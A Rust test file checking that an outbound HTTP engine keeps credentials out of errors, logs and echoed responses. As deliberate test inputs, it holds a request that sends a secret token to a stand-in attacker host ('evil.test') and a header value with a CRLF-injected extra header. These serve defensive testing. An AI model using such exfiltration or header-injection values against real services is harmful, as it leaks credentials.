//! No credential value ever appears in an error (Display or Debug) or a log line of the
//! engine, whatever goes wrong, and an upstream echoing the credential does not hand it back.

#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::*;
use trestle_outbound::{
    CredentialAttachment, EgressContext, HostRoutes, OutboundConfig, OutboundError,
    OutboundRequest, RequestBody, StaticHostList,
};
use wiremock::matchers::{any, path};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

fn assert_error_is_clean(error: &OutboundError) {
    assert_no_secret(&error.to_string());
    assert_no_secret(&format!("{error:?}"));
}

fn routed(target: &str) -> EgressContext {
    EgressContext::new().with_routes(
        HostRoutes::new()
            .with_route("books.zoho.com", target)
            .unwrap(),
    )
}

/// Collects everything the engine logs.
#[derive(Clone, Default)]
struct LogBuffer(Arc<Mutex<Vec<u8>>>);

impl Write for LogBuffer {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Echoes the request line, headers and body back, as a hostile or careless upstream might.
struct Echo;

impl Respond for Echo {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let headers = request
            .headers
            .iter()
            .map(|(name, value)| format!("{name}: {}", value.to_str().unwrap_or("")))
            .collect::<Vec<_>>()
            .join("\n");
        ResponseTemplate::new(200)
            .insert_header(
                "x-echo-authorization",
                request
                    .headers
                    .get("authorization")
                    .map(|value| value.to_str().unwrap_or(""))
                    .unwrap_or(""),
            )
            .set_body_string(format!(
                "{}\n{headers}\n\n{}",
                request.url,
                String::from_utf8_lossy(&request.body)
            ))
    }
}

#[tokio::test]
async fn errors_and_logs_never_contain_the_credential() {
    let logs = LogBuffer::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);

    let slow = MockServer::start().await;
    Mock::given(path("/slow"))
        .respond_with(ResponseTemplate::new(200).set_delay(Duration::from_secs(3)))
        .mount(&slow)
        .await;
    Mock::given(path("/large"))
        .respond_with(ResponseTemplate::new(200).set_body_bytes(vec![b'x'; 4096]))
        .mount(&slow)
        .await;
    Mock::given(path("/loop"))
        .respond_with(ResponseTemplate::new(302).insert_header("location", "/loop"))
        .mount(&slow)
        .await;
    let engine = common::engine(OutboundConfig {
        timeout: Duration::from_secs(1),
        max_response_bytes: 1024,
        ..loopback_config()
    });
    let credential = zoho_credential(&["books.zoho.com"]);
    let mut errors = Vec::new();

    for route in ["/slow", "/large", "/loop"] {
        errors.push(
            engine
                .send(
                    OutboundRequest::get(format!("https://books.zoho.com{route}")),
                    Some(&credential),
                    &routed(&slow.uri()),
                )
                .await
                .unwrap_err(),
        );
    }
    // Nothing listens on port 1: connection refused.
    errors.push(
        engine
            .send(
                OutboundRequest::get("https://books.zoho.com/closed"),
                Some(&credential),
                &routed("http://127.0.0.1:1"),
            )
            .await
            .unwrap_err(),
    );
    // A script that pastes the token into a URL or a header of its own.
    errors.push(
        error_of_get(
            &engine,
            format!("https://books.zoho.com.evil.test/?t={SECRET_TOKEN}"),
            Some(&credential),
        )
        .await,
    );
    errors.push(
        error_of_get(
            &engine,
            format!("https://books zoho.com/{SECRET_TOKEN}"),
            Some(&credential),
        )
        .await,
    );
    errors.push(
        error_of_get(
            &engine,
            format!("gopher://books.zoho.com/{SECRET_TOKEN}"),
            Some(&credential),
        )
        .await,
    );
    // A credential value a header cannot carry.
    let broken = CredentialAttachment::new(
        "crm__books",
        Arc::new(StaticHostList::new(["books.zoho.com"])),
    )
    .with_header(
        "Authorization",
        format!("Bearer {SECRET_TOKEN}\r\nX-Injected: 1"),
    );
    errors.push(
        engine
            .send(
                OutboundRequest::get("https://books.zoho.com/x"),
                Some(&broken),
                &routed(&slow.uri()),
            )
            .await
            .unwrap_err(),
    );
    // Form fields on a raw body.
    let form_credential = CredentialAttachment::new(
        "crm__books",
        Arc::new(StaticHostList::new(["books.zoho.com"])),
    )
    .with_form_field("client_secret", SECRET_API_KEY);
    errors.push(
        engine
            .send(
                OutboundRequest::post("https://books.zoho.com/oauth/token").with_body(
                    RequestBody::Text {
                        text: "x".to_owned(),
                        content_type: None,
                    },
                ),
                Some(&form_credential),
                &routed(&slow.uri()),
            )
            .await
            .unwrap_err(),
    );

    let codes = errors.iter().map(OutboundError::code).collect::<Vec<_>>();
    assert_eq!(
        codes,
        [
            "TIMEOUT",
            "RESPONSE_TOO_LARGE",
            "TOO_MANY_REDIRECTS",
            "CONNECTION_FAILED",
            "EGRESS_HOST_NOT_ALLOWED",
            "INVALID_URL",
            "UNSUPPORTED_SCHEME",
            "CREDENTIAL_PLACEMENT",
            "CREDENTIAL_PLACEMENT",
        ]
    );
    for error in &errors {
        assert_error_is_clean(error);
    }
    let logged = String::from_utf8(logs.0.lock().unwrap().clone()).unwrap();
    assert!(
        logged.contains("outbound request failed"),
        "nothing logged: {logged}"
    );
    assert_no_secret(&logged);
}

#[tokio::test]
async fn an_echoing_upstream_does_not_hand_the_credential_back() {
    let upstream = MockServer::start().await;
    Mock::given(any()).respond_with(Echo).mount(&upstream).await;
    let engine = loopback_engine();
    let credential =
        zoho_credential(&["books.zoho.com"]).with_form_field("client_secret", "form-secret-value");
    let response = engine
        .send(
            OutboundRequest::post("https://books.zoho.com/echo")
                .with_body(RequestBody::Form(vec![("a".to_owned(), "1".to_owned())])),
            Some(&credential),
            &routed(&upstream.uri()),
        )
        .await
        .unwrap();
    // The upstream did get the credential...
    let received = upstream.received_requests().await.unwrap();
    assert!(String::from_utf8_lossy(&received[0].body).contains("client_secret=form-secret-value"));
    assert!(received[0].url.as_str().contains("api_key="));
    // ...and the caller sees it scrubbed everywhere.
    let text = response.text();
    assert!(text.contains("[REDACTED]"), "{text}");
    assert_no_secret(&text);
    assert!(!text.contains("form-secret-value"), "{text}");
    assert_eq!(response.header("x-echo-authorization"), Some("[REDACTED]"));
    assert_no_secret(&format!("{response:?}"));
}
